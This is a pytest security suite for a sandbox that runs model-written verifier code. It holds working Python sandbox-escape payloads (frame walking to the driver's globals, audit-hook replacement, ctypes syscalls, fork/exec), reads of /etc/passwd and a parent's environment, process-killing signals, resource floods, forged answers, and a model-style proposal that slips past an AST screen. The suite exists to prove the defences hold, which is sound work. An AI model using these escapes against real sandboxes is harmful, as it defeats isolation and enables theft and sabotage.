"""The sandbox's walls against a careful attacker.

Each attack is the code of a proposed verifier. It first breaks the in-process layer
where it needs to (frames, ``gc``, subclass walks, ``sys.modules``, importlib, real
builtins), then tries to read outside its view, write, connect to a listener on
127.0.0.1, spawn, signal, outlive its time-out or forge a result. This process watches
from outside: a marker file the attack wants to create, a victim file it wants to
change, a listener, a victim process, processes carrying the attack's token, secrets
in this process' environment and files. Behind the walls every attack fails and this
process survives; with the walls taken away (the in-process layer alone), the issue's
attacks succeed, so these tests test the walls.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import threading
import time
import uuid
from pathlib import Path

import pytest

from vicogym.instruct import discovery, sandbox
from vicogym.instruct.sandbox import run_untrusted, run_untrusted_batch

walled = pytest.mark.usefixtures("walls")

SOURCE = Path(sandbox.__file__).resolve()

#: breaks the in-process layer as the security test did: a traceback's frames lead to the
#: driver's module globals, where the audit hook and its refusals live
PRELUDE = r'''
def driver_globals(frame=None):
    if frame is None:
        try:
            raise ValueError("x")
        except ValueError as e:
            frame = getattr(e, "__trace" + "back__").tb_frame
    while frame.f_back is not None:
        frame = frame.f_back
    return frame.f_globals


def unlock(g=None):
    g = g or driver_globals()
    g["REFUSED"] = ()
    g["hook"].__code__ = (lambda event, args: None).__code__
    return g["builtins"]


def smuggle(name):
    """A module past the import guard, with the audit hook intact: the hook lets through
    what sys.modules holds, and the loaders' own functions do not ask it again."""
    sys = print.__self__.__import__("sys")
    imp, boot = sys.modules["_imp"], sys.modules["_frozen_importlib"]
    sys.modules[name] = None
    try:
        if name in sys.builtin_module_names:
            return imp.create_builtin(boot.ModuleSpec(name, boot.BuiltinImporter))
        return imp.create_dynamic(sys.modules["_frozen_importlib_external"].PathFinder.find_spec(name))
    finally:
        del sys.modules[name]


def attempt(report, name, fn):
    try:
        report[name] = {"ok": True, "value": fn()}
    except BaseException as exc:
        report[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"[:200]}
    return report


def read_everything(open_, ctx, report):
    for name, path in (("hostname", "/etc/hostname"), ("source", ctx["source"]), ("secret", ctx["secret_file"]),
                       ("environ", f"/proc/{ctx['parent']}/environ"), ("passwd", "/etc/passwd")):
        attempt(report, "read " + name, lambda: open_(path, "rb").read().decode("latin-1"))
    return report


def forge(value):
    """An answer line under the current call's own nonce (read from the driver's globals),
    holding ``value`` as it is, then the end."""
    os = unlock().__import__("os")
    nonce = driver_globals()["call"]["n"].encode()
    os.write(1, b'{"n": "' + nonce + b'", "ok": true, "value": ' + value + b"}\n")
    os._exit(0)


def system(os_, ctx):
    status = os_.system("touch " + ctx["marker"])
    if status:
        raise OSError(f"system() answered {status} (the shell did not run)")
    return status
'''

#: name -> code defining ``attack(ctx)``; the value it returns is a report of attempts
ATTACKS: dict[str, str] = {
    # -- what the security test did ----------------------------------------------------------
    "traceback frames to the driver, then os.system": r'''
def attack(ctx):
    os = unlock().__import__("os")
    return attempt({}, "system", lambda: system(os, ctx))
''',
    "the hook's code replaced, then a socket to the listener": r'''
def attack(ctx):
    g = driver_globals()
    g["hook"].__code__ = (lambda event, args: None).__code__
    real = g["builtins"].__import__

    def connect():
        s = real("socket").create_connection(("127.0.0.1", ctx["port"]), timeout=2)
        s.sendall(b"pwned " + ctx["token"].encode())
        s.close()
        return "sent"
    return attempt({}, "connect", connect)
''',
    "fork, and a child that outlives the call": r'''
def attack(ctx):
    os = unlock().__import__("os")

    def fork():
        pid = os.fork()
        if pid == 0:  # its own session: out of reach of a kill of the sandbox's process group
            os.setsid()
            os.execv(ctx["python"], [ctx["python"], "-c", "import time\nopen(%r, 'w').close()\ntime.sleep(30)"
                                     % ctx["marker"], ctx["token"]])
        def shown():  # out of reach, and running the new interpreter (its command line names the token)
            try:
                fd = os.open("/proc/%d/cmdline" % pid, os.O_RDONLY)
                try:
                    return os.getsid(pid) == pid and ctx["token"].encode() in os.read(fd, 65536)
                finally:
                    os.close(fd)
            except OSError:
                return False

        sleep = unlock().__import__("time").sleep
        for _ in range(1000):  # answer once the child has shown (up to 5 s: a loaded machine is slow to exec)
            if shown():
                break
            sleep(0.005)
        return pid
    return attempt({}, "fork", fork)
''',
    "exec a new interpreter": r'''
def attack(ctx):
    os = unlock().__import__("os")
    return attempt({}, "exec", lambda: os.execv(ctx["python"], [ctx["python"], "-c",
                                                "open(%r, 'w').close()" % ctx["marker"], ctx["token"]]))
''',
    "_posixsubprocess.fork_exec with the hook intact": r'''
def attack(ctx):
    def spawn():
        module, os = smuggle("_posixsubprocess"), print.__self__.__import__("sys").modules["os"]
        read, write = os.pipe()
        code = "import time\nopen(%r, 'w').close()\ntime.sleep(30)" % ctx["marker"]
        pid = module.fork_exec([ctx["python"].encode(), b"-c", code.encode(), ctx["token"].encode()],
                               [ctx["python"].encode()], True, (), None, None, -1, -1, -1, -1, -1, -1, read, write,
                               True, True, -1, None, None, None, -1, None, True)
        os.close(write)
        os.read(read, 100)  # closed by the exec: the child is in its own session by now
        return pid
    return attempt({}, "fork_exec", spawn)
''',
    "files renamed and removed": r'''
def attack(ctx):
    os = unlock().__import__("os")
    report = attempt({}, "rename", lambda: os.rename(ctx["victim"], ctx["victim"] + ".moved"))
    return attempt(report, "remove", lambda: os.remove(ctx["victim"]))
''',
    "real builtins from json.dumps.__globals__, then reads": r'''
def attack(ctx):
    real = __import__("json").dumps.__globals__["__builtins__"]
    return read_everything(real["open"], ctx, {})
''',
    "pidfd signals to the parent and a victim": r'''
def attack(ctx):
    b = unlock()
    os, signal = b.__import__("os"), b.__import__("_signal")
    report = attempt({}, "pidfd victim", lambda: signal.pidfd_send_signal(os.pidfd_open(ctx["pid"]), signal.SIGTERM))
    attempt(report, "kill victim", lambda: os.kill(ctx["pid"], signal.SIGTERM))
    attempt(report, "killpg victim", lambda: os.killpg(ctx["pid"], signal.SIGTERM))
    if ctx["walls"]:  # without the walls these would reach this test's own process and the machine's
        attempt(report, "pidfd parent", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGTERM))
        attempt(report, "kill everyone", lambda: os.kill(-1, signal.SIGKILL))
        attempt(report, "kill init", lambda: os.kill(1, signal.SIGKILL))
    return report
''',
    "truncate a file": r'''
def attack(ctx):
    os = unlock().__import__("os")
    return attempt({}, "truncate", lambda: os.truncate(ctx["victim"], 0))
''',
    "links, owners, times, fifos and attributes": r'''
def attack(ctx):
    os = unlock().__import__("os")
    report = {}
    for where in (ctx["dir"], "/tmp"):  # the host's folder, and the sandbox's own /tmp
        target = ctx["victim"] if where == ctx["dir"] else "/tmp/mine"
        attempt(report, where + " open for writing", lambda: os.open(where + "/new", os.O_WRONLY | os.O_CREAT))
        attempt(report, where + " symlink", lambda: os.symlink("/", where + "/link"))
        attempt(report, where + " link", lambda: os.link(target, where + "/hard"))
        attempt(report, where + " mkfifo", lambda: os.mkfifo(where + "/fifo"))
        attempt(report, where + " mkdir", lambda: os.mkdir(where + "/folder"))
        attempt(report, where + " chown", lambda: os.chown(target, 1, 1))
        attempt(report, where + " chmod", lambda: os.chmod(target, 0o777))
        attempt(report, where + " utime", lambda: os.utime(target, (0, 0)))
        attempt(report, where + " setxattr", lambda: os.setxattr(target, "user.pwned", b"1"))
    return report
''',
    "reads of the host: hostname, source, the parent's environment": r'''
def attack(ctx):
    return read_everything(unlock().open, ctx, {})
''',
    "the per-call clock switched off": r'''
def attack(ctx):
    signal = unlock().__import__("_signal")
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        pass
''',
    # -- more of what a careful attacker tries -------------------------------------------------
    "frames of a running generator": r'''
def attack(ctx):
    def walker():
        yield me.gi_frame.f_back
    me = walker()
    os = unlock(driver_globals(next(me))).__import__("os")
    return attempt({}, "system", lambda: system(os, ctx))
''',
    "frames of a running coroutine": r'''
def attack(ctx):
    async def walker():
        return me.cr_frame.f_back
    me = walker()
    try:
        me.send(None)
    except StopIteration as stop:
        frame = stop.value
    os = unlock(driver_globals(frame)).__import__("os")
    return attempt({}, "system", lambda: system(os, ctx))
''',
    "gc.get_objects() to the driver's globals": r'''
def attack(ctx):
    gc = smuggle("gc")
    g = next(o for o in gc.get_objects() if isinstance(o, dict) and "REFUSED" in o and "hook" in o)
    os = unlock(g).__import__("os")
    return attempt({}, "system", lambda: system(os, ctx))
''',
    "object.__subclasses__() to os": r'''
def attack(ctx):
    for cls in ().__class__.__base__.__subclasses__():
        g = getattr(getattr(cls, "__init__", None), "__globals__", None)
        if isinstance(g, dict) and "system" in g and "fork" in g:
            os_system = g["system"]
            break
    driver = driver_globals()
    driver["REFUSED"] = ()
    return attempt({}, "system", lambda: 1 / (os_system("touch " + ctx["marker"]) == 0))
''',
    "sys.modules to os and importlib, loading the project's source": r'''
def attack(ctx):
    sys = print.__self__.__import__("sys")
    unlock()
    report = attempt({}, "system", lambda: system(sys.modules["os"], ctx))
    loader = sys.modules["_frozen_importlib_external"].SourceFileLoader("stolen", ctx["source"])
    return attempt(report, "import the source", lambda: len(loader.get_data(ctx["source"])))
''',
    "ctypes through _ctypes: raw calls": r'''
def attack(ctx):
    real = unlock().__import__
    ctypes = real("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    report = {}
    for name, call in (("fork", lambda: libc.fork()), ("socket", lambda: libc.socket(2, 1, 0)),
                       ("kill", lambda: libc.kill(ctx["pid"], 15)), ("unshare", lambda: libc.unshare(0x10000000)),
                       ("ptrace", lambda: libc.ptrace(16, ctx["pid"], 0, 0)),
                       ("clone by number", lambda: libc.syscall(56, 17, 0, 0, 0, 0))):
        result = call()
        report[name] = {"ok": result >= 0 and (name != "fork" or result > 0), "value": result,
                        "errno": ctypes.get_errno()}
        if name == "fork" and result == 0:
            libc._exit(0)
    return report
''',
    "/proc/self/mem": r'''
def attack(ctx):
    open_ = unlock().open
    return attempt({}, "/proc/self/mem", lambda: open_("/proc/self/mem", "r+b").fileno())
''',
    "os.openpty": r'''
def attack(ctx):
    os = unlock().__import__("os")
    return attempt({}, "openpty", lambda: os.openpty())
''',
    "a thread flood": r'''
def attack(ctx):
    thread = unlock().__import__("_thread")
    started = []
    for _ in range(200):
        try:
            thread.start_new_thread(lambda: __import__("math").factorial(10 ** 9), ())
            started.append(1)
        except BaseException as exc:
            return {"threads": {"ok": bool(started), "value": len(started), "error": repr(exc)[:100]}}
    return {"threads": {"ok": True, "value": len(started)}}
''',
    "deep recursion past the interpreter's limit": r'''
def attack(ctx):
    unlock().__import__("sys").setrecursionlimit(10 ** 8)

    def down(n):
        return down(n + 1) + 1
    return down(0)
''',
    "an answer whose __str__ and __eq__ run code": r'''
class Sly(str):
    def __eq__(self, other):
        return system(unlock().__import__("os"), CTX) == 0

    def __str__(self):
        system(unlock().__import__("os"), CTX)
        return "sly"

    __hash__ = str.__hash__


def attack(ctx):
    global CTX
    CTX = ctx
    return {"answer": Sly("x"), "nested": [Sly("y")]}
''',
    "a memory bomb": r'''
def attack(ctx):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 1024 * 1024))
''',
    "a flood on standard error": r'''
def attack(ctx):
    os = unlock().__import__("os")
    while True:
        os.write(2, b"e" * 65536)
''',
    "System V shared memory past the memory limit": r'''
def attack(ctx):
    ctypes = unlock().__import__("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    segment = libc.shmget(0, 128 * 1024 * 1024, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
    return {"shmget": {"ok": segment >= 0, "value": segment, "errno": ctypes.get_errno()}}
''',
    "calls newer than any deny list, by number": r'''
def attack(ctx):
    b = unlock()
    ctypes, os = b.__import__("ctypes"), b.__import__("os")
    libc = ctypes.CDLL(None, use_errno=True)
    report = {}
    for name, number, args in (("fchmodat2", 452, (-100, b"/tmp", 0o4777, 0)),
                               ("setxattrat", 463, (-100, b"/tmp", 0, b"user.x", 0, 0)),
                               ("open_tree_attr", 467, (-100, b"/", 0, 0, 0)),
                               ("landlock_create_ruleset", 444, (0, 0, 1)),
                               ("listmount", 458, (0, 0, 0, 0)), ("memfd_secret", 447, (0,))):
        result = libc.syscall(number, *args)
        report[name] = {"ok": result >= 0, "value": result, "errno": ctypes.get_errno()}
    return report
''',
    "leases, locks and watches on the view's files": r'''
def attack(ctx):
    b = unlock()
    ctypes = b.__import__("ctypes")
    os, fcntl_ = b.__import__("os"), ctypes.CDLL(None, use_errno=True)
    path = b.__import__("json").__file__
    fd = os.open(path, os.O_RDONLY)
    lock = ctypes.create_string_buffer(64)  # a struct flock of zeros: a read lock on the whole file (l_pid 0 for OFD)
    report = {}
    for name, call in (("lease", lambda: fcntl_.fcntl(fd, 1024, 0)), ("notify", lambda: fcntl_.fcntl(fd, 1026, 0)),
                       ("flock", lambda: fcntl_.flock(fd, 2)), ("inotify", lambda: fcntl_.inotify_init1(0)),
                       ("record lock F_SETLK", lambda: fcntl_.fcntl(fd, 6, lock)),
                       ("record lock F_SETLKW", lambda: fcntl_.fcntl(fd, 7, lock)),
                       ("record lock F_GETLK", lambda: fcntl_.fcntl(fd, 5, lock)),
                       ("OFD lock F_OFD_SETLK", lambda: fcntl_.fcntl(fd, 37, lock)),
                       ("OFD lock F_OFD_GETLK", lambda: fcntl_.fcntl(fd, 36, lock))):
        result = call()
        report[name] = {"ok": result >= 0, "value": result}
    attempt(report, "append to a view file", lambda: os.open(path, os.O_WRONLY | os.O_APPEND))
    return report
''',
    "the host's name": r'''
def attack(ctx):
    return {"read hostname": {"ok": True, "value": unlock().__import__("os").uname().nodename + "\\n"}}
''',
    "the network namespace: loopback and interfaces": r'''
def attack(ctx):
    b = unlock()
    report = attempt({}, "interfaces", lambda: b.open("/sys/class/net/lo/address").read())
    ctypes = b.__import__("ctypes")
    libc = ctypes.CDLL(None, use_errno=True)
    return attempt(report, "socket", lambda: 1 / (libc.socket(2, 1, 0) >= 0))
''',
}

#: attacks on the answer channel: the code, what the failure says, the value size allowed
CHANNEL_ATTACKS: dict[str, tuple] = {
    "a forged load report, then exit": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    os.write(1, b'{"loaded": true, "n": "0000"}\n{"n": "0000", "ok": true, "value": "forged"}\n')
    os._exit(0)
''', "malformed answer"),
    "an answer written ahead of its call": (r'''
import json
WRITTEN = []


def attack(ctx):
    os = unlock().__import__("os")
    if not WRITTEN:  # the first call writes answers for the calls after it, then dies
        WRITTEN.append(1)
        for _ in range(3):
            os.write(1, b'{"n": "guess", "ok": true, "value": "forged"}\n')
        os._exit(0)
    return "real"
''', "malformed answer"),
    "an answer line [1, 2]": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    os.write(1, b"[1, 2]\n")
    os._exit(0)
''', "malformed answer"),
    "a 100,000-deep answer line": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    os.write(1, b"[" * 100000 + b"]" * 100000 + b"\n")
    os._exit(0)
''', "nests deeper", 300_000),
    "a gigabyte on standard output": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    chunk = b"x" * (1 << 20)
    for _ in range(1024):
        os.write(1, chunk)
''', "ran past"),
    "bytes that are no UTF-8": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    os.write(1, b"\xff\xfe\n")
    os._exit(0)
''', "not UTF-8"),
    "a line that makes a naive depth check quadratic": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    os.write(1, b'"\\' * 100000 + b"\n")
    os._exit(0)
''', "malformed answer", 200_000),
    "a full line without its newline, then the newline with more": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    os.write(1, b"x" * 5096)
    b = 0
    for i in range(10 ** 6):
        b += i
    os.write(1, b"y" * 65536 + b"\n")
    os._exit(0)
''', "ran past"),
    # numbers strict JSON does not carry, written under the call's own nonce (the driver
    # would refuse to write them): the parent names what is wrong, never hands back inf
    "infinities forged under the call's nonce": (r'''
def attack(ctx):
    forge(b"[1e999, -1e999]")
''', "NonFiniteNumber: 1e999 is beyond a float's range"),
    "a 900,000-digit float forged under the call's nonce": (r'''
def attack(ctx):
    forge(b"9" * 900000 + b".5")
''', "NonFiniteNumber: 999999999999... (900002 characters)", 1_000_000),
    "NaN forged under the call's nonce": (r'''
def attack(ctx):
    forge(b'{"x": NaN}')
''', "NonFiniteNumber: NaN is no JSON number"),
    "a 900,000-digit integer forged under the call's nonce": (r'''
def attack(ctx):
    forge(b"-" + b"7" * 900000)
''', "IntegerTooLong: an integer of 900000 digits", 1_000_000),
    "an oversized value forged past the driver's check": (r'''
def attack(ctx):
    os = unlock().__import__("os")
    g = driver_globals()
    g["limit"] = 10 ** 9
    return "y" * 5000
''', "more than the 1000 allowed"),
}


def _parent(pid: int) -> int:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


def _marked(pid: int) -> bool:
    try:
        return b"vicogym-sandbox-driver" in Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return False


def _driver_processes() -> list[int]:
    """Sandbox processes left over: this process' descendants (after the call returned),
    or orphans whose owner died; other programs' sandboxes, alive under their owners, do
    not count."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or not _marked(int(entry.name)):
            continue
        owner = int(entry.name)
        while owner > 1 and _marked(owner):
            owner = _parent(owner)
        ancestors, pid = set(), owner
        while pid > 1 and len(ancestors) < 64:
            ancestors.add(pid)
            pid = _parent(pid)
        if owner <= 1 or os.getpid() in ancestors:
            found.append(int(entry.name))
    return found


class Arena:
    """What the attack wants, watched from outside the sandbox."""

    def __init__(self, folder: Path):
        self.dir = folder
        self.token = f"vicogym-attack-{uuid.uuid4().hex}"
        self.victim = folder / "victim.txt"
        self.victim.write_text("keep me")
        self.secret = uuid.uuid4().hex
        self.secret_file = folder / "secret.txt"
        self.secret_file.write_text(self.secret)
        self.marker = folder / "pwned"
        self.before = self._files()
        self.received: list[bytes] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.listening = True
        self.thread = threading.Thread(target=self._listen, daemon=True)
        self.thread.start()
        self.process = subprocess.Popen(["sleep", "120"], start_new_session=True)
        self.hostname = Path("/etc/hostname").read_text() if Path("/etc/hostname").exists() else None

    def _files(self):
        """Name, mode, owner, time and contents of each entry (a fifo or link is not opened)."""
        entries = []
        for p in self.dir.iterdir():
            info = p.lstat()
            data = p.read_bytes() if p.is_file() and not p.is_symlink() else b""
            entries.append((p.name, info.st_mode, info.st_uid, info.st_mtime_ns, data))
        return sorted(entries)

    def _listen(self):
        while self.listening:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(1024) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def ctx(self, walls: bool = True) -> dict:
        return {"dir": str(self.dir), "victim": str(self.victim), "marker": str(self.marker), "port": self.port,
                "pid": self.process.pid, "parent": os.getpid(), "token": self.token, "python": sandbox._interpreter(),
                "source": str(SOURCE), "secret_file": str(self.secret_file), "walls": walls}

    def breaches(self, value) -> list[str]:
        """What the attack achieved, as seen from here and in what it returned."""
        time.sleep(0.3)  # a spawned process or a connection gets its chance to show
        found = []
        if self.marker.exists():
            found.append("created a file outside its view")
        if self._files() != self.before and not self.marker.exists():
            found.append("changed this process' files")
        if self.received:
            found.append(f"connected to 127.0.0.1 ({self.received[0][:40]!r})")
        if self.process.poll() is not None:
            found.append("signalled another process")
        leftovers = [p for p in Path("/proc").iterdir() if p.name.isdigit() and self._has_token(p)]
        if leftovers:
            found.append(f"spawned {len(leftovers)} process(es) that outlived the call")
        if _driver_processes():
            found.append("the sandbox outlived the call")
        text = json.dumps(value, default=str)
        if self.secret in text or os.environ.get("VICOGYM_ATTACK_SECRET", "-") in text:
            found.append("read a secret")
        if "Running code that a model wrote" in text:
            found.append("read the project's source")
        if isinstance(value, dict):
            for name, outcome in value.items():
                if isinstance(outcome, dict) and outcome.get("ok") and not name.startswith("read "):
                    found.append(f"{name} succeeded")
                if name == "read hostname" and isinstance(outcome, dict) and outcome.get("ok") \
                        and outcome.get("value") == self.hostname:
                    found.append("read /etc/hostname")
                if name == "read passwd" and isinstance(outcome, dict) and outcome.get("ok"):
                    found.append("read /etc/passwd")
        return found

    def _has_token(self, entry: Path) -> bool:
        try:
            return self.token.encode() in (entry / "cmdline").read_bytes()
        except OSError:
            return False

    def close(self):
        self.listening = False
        self.thread.join(2)
        self.server.close()
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and self._has_token(entry):
                with contextlib.suppress(OSError):
                    os.kill(int(entry.name), 9)
        self.process.kill()
        self.process.wait()


@pytest.fixture
def arena(tmp_path, monkeypatch):
    monkeypatch.setenv("VICOGYM_ATTACK_SECRET", uuid.uuid4().hex)
    place = Arena(tmp_path)
    yield place
    place.close()


@pytest.fixture
def without_walls(monkeypatch):
    """The in-process layer alone (the old sandbox's design)."""
    monkeypatch.setattr(sandbox, "_command", sandbox._in_process_only)


def _peak_memory_kib() -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    return 0


@walled
@pytest.mark.parametrize("name", list(ATTACKS))
def test_every_attack_fails_behind_the_walls_and_this_process_survives(name, arena):
    start = time.monotonic()
    result = run_untrusted(PRELUDE + ATTACKS[name], "attack", [arena.ctx()], timeout=4, cpu_seconds=3)
    elapsed = time.monotonic() - start
    assert elapsed < 7, f"the sandbox outlived its time-out ({elapsed:.1f} s)"
    assert arena.breaches(result.value if result.ok else result.error) == [], (name, result)


@walled
@pytest.mark.parametrize("name", list(CHANNEL_ATTACKS))
def test_a_forged_or_flooded_answer_is_the_candidates_failure_never_this_process_exception(name, arena):
    code, expected, chars = (CHANNEL_ATTACKS[name] + (1000,))[:3]
    peak = _peak_memory_kib()
    start = time.monotonic()
    result = run_untrusted_batch(PRELUDE + code, "attack", [([arena.ctx()], {})] * 3, call_seconds=3, timeout=8,
                                 max_value_chars=chars)
    assert time.monotonic() - start < 10
    assert _peak_memory_kib() - peak < 64 * 1024, "the parent read more than a bounded answer"
    first = result.value[0] if result.ok else result
    assert not first.ok and expected in first.error, (name, result)
    assert "forged" not in json.dumps([r.value for r in result.value] if result.ok else [])
    assert arena.breaches(None) == [], name


@walled
def test_the_clock_is_this_process_own_however_the_code_plays_with_signals(arena):
    start = time.monotonic()
    result = run_untrusted_batch(PRELUDE + ATTACKS["the per-call clock switched off"], "attack",
                                 [([arena.ctx()], {})] * 2, call_seconds=0.5, timeout=30)
    assert time.monotonic() - start < 3
    assert result.ok and result.value[0].error.startswith("timeout") and result.value[1].error.startswith("not run")
    assert arena.breaches(None) == []


@walled
def test_a_proposal_that_slips_past_the_ast_screen_is_still_walled_in(arena):
    """Dunder names built from strings are no attribute nodes: the screen passes the code,
    admission runs it, and the walls hold."""
    code = f'''
CTX = __import__("json").loads({json.dumps(arena.ctx())!r})


def verify(response):
    try:
        try:
            raise ValueError("x")
        except ValueError as e:
            frame = getattr(e, "__trace" + "back__").tb_frame
        while frame.f_back is not None:
            frame = frame.f_back
        g = frame.f_globals
        g["REFUSED"] = ()
        setattr(g["hook"], "__co" + "de__", getattr(lambda event, args: None, "__co" + "de__"))
        getattr(g["builtins"], "__imp" + "ort__")("os").system("touch " + CTX["marker"])
    except BaseException:
        pass
    return {{"pass": response.endswith("!"), "expected": "ends with !", "actual": response[-1:], "detail": ""}}
'''
    assert discovery.code_problem(code) is None
    proposal = {"id": "ends_with_bang", "description": "Ends with an exclamation mark.", "category": "format",
                "params": {}, "code": code, "cases": [{"response": "Yes!", "params": {}, "pass": True},
                                                      {"response": "No.", "params": {}, "pass": False}]}
    discovery.admit(proposal)  # it verifies what it says: admitted, and harmless
    assert arena.breaches(None) == []


@walled
@pytest.mark.parametrize("value, problem", [("float('nan')", "ValueError"), ("chr(0xd800)", "UnicodeEncodeError"),
                                            ("{'x': float('inf')}", "ValueError")])
def test_an_answer_that_is_no_strict_json_text_is_the_calls_failure(value, problem):
    result = run_untrusted_batch(f"def f(kind):\n    return {value} if kind else 'fine'\n", "f",
                                 [([1], {}), ([0], {})])
    assert result.ok and not result.value[0].ok and problem in result.value[0].error, result
    assert result.value[1].ok and result.value[1].value == "fine"


@walled
def test_the_child_environment_holds_nothing_of_this_process(arena):
    code = "def f():\n    return dict(print.__self__.__import__('os').environ)\n"
    result = run_untrusted(code, "f")
    # only what the sandbox sets for itself: its working folder, and the UTF-8 locale
    # Python sets when it starts in the C locale (PEP 538)
    assert result.ok and set(result.value) <= {"PWD", "LC_CTYPE"} and result.value.get("PWD", "/tmp") == "/tmp"


#: the issue's attacks, and the breach each one achieves against the in-process layer alone
ISSUE_ATTACKS = {
    "traceback frames to the driver, then os.system": "created a file outside its view",
    "the hook's code replaced, then a socket to the listener": "connected to 127.0.0.1",
    "fork, and a child that outlives the call": "outlived the call",
    "exec a new interpreter": "created a file outside its view",
    "_posixsubprocess.fork_exec with the hook intact": "outlived the call",
    "files renamed and removed": "changed this process' files",
    "real builtins from json.dumps.__globals__, then reads": "read a secret",
    "pidfd signals to the parent and a victim": "signalled another process",
    "truncate a file": "changed this process' files",
    "links, owners, times, fifos and attributes": "changed this process' files",
    "reads of the host: hostname, source, the parent's environment": "read the project's source",
    "gc.get_objects() to the driver's globals": "created a file outside its view",
    "object.__subclasses__() to os": "created a file outside its view",
    "ctypes through _ctypes: raw calls": "socket succeeded",
}


@pytest.mark.parametrize("name", list(ISSUE_ATTACKS))
def test_without_the_walls_the_attacks_succeed_so_the_suite_tests_the_walls(name, arena, without_walls):
    result = run_untrusted(PRELUDE + ATTACKS[name], "attack", [arena.ctx(walls=False)], timeout=4, cpu_seconds=3)
    found = arena.breaches(result.value if result.ok else result.error)
    assert any(ISSUE_ATTACKS[name] in breach for breach in found), (name, found, result)


@walled
def test_the_walls_are_the_ones_described():
    """The command: namespaces, the unprivileged user, no /proc or /dev, an empty
    environment, the seccomp program on a file descriptor; the view holds the
    interpreter and the modules it may import, not the site packages or the project."""
    command, first, second = sandbox._walled(sandbox.ALLOWED_MODULES)
    for flag in ("--unshare-all", "--unshare-user", "--die-with-parent", "--new-session", "--clearenv", "--seccomp"):
        assert flag in command
    assert command[command.index("--uid") + 1] == "65534" and "--proc" not in command and "--dev" not in command
    assert {command[i + 2] for i, part in enumerate(command) if part == "--ro-bind"} <= {
        "/usr",
        "/etc",
        "/root",
        "/home",
        "/opt",
        "/lib",
        "/lib64",
    }
    staged = Path(command[command.index("--ro-bind") + 1]).parent
    view = {"/" + str(p.relative_to(staged)) for p in staged.rglob("*") if p.is_file()}
    assert sandbox._interpreter() in view and "/etc/ld.so.cache" in view
    assert any(p.endswith("/json/decoder.py") for p in view) and any(p.endswith("/encodings/latin_1.py") for p in view)
    absents = ("site-packages", "/socket.py", "/subprocess.py", "_posixsubprocess", "_socket", str(SOURCE.parents[1]))
    for absent in absents:
        assert not any(absent in p for p in view), absent
    assert len(first) % 8 == 0 and len(second) % 8 == 0 and first != second


def test_the_first_filter_names_every_record_lock_command_of_this_machine():
    """``fcntl`` record locks (classic and open-file-description) are refused by their
    commands as the kernel numbers them; the commands an interpreter needs are not."""
    import fcntl

    locks = {getattr(fcntl, name) for name in ("F_GETLK", "F_SETLK", "F_SETLKW", "F_GETLK64", "F_SETLK64",
                                               "F_SETLKW64", "F_OFD_GETLK", "F_OFD_SETLK", "F_OFD_SETLKW")
             if hasattr(fcntl, name)}
    assert locks and locks <= set(sandbox._REFUSED_FCNTL)
    assert {fcntl.F_SETLEASE, fcntl.F_NOTIFY} <= set(sandbox._REFUSED_FCNTL)
    needed = {fcntl.F_GETFD, fcntl.F_SETFD, fcntl.F_GETFL, fcntl.F_SETFL, fcntl.F_DUPFD, fcntl.F_DUPFD_CLOEXEC}
    assert not needed & set(sandbox._REFUSED_FCNTL)


def test_where_the_walls_cannot_stand_no_code_runs_and_the_message_names_what_to_install(monkeypatch):
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    monkeypatch.setattr(sandbox, "_checked", {})
    with pytest.raises(sandbox.SandboxUnavailable, match="bubblewrap"):
        run_untrusted("def f():\n    return 1", "f")
    with pytest.raises(sandbox.SandboxUnavailable, match="apt-get install bubblewrap"):
        discovery.admit(discovery.BANK["no_digits"])
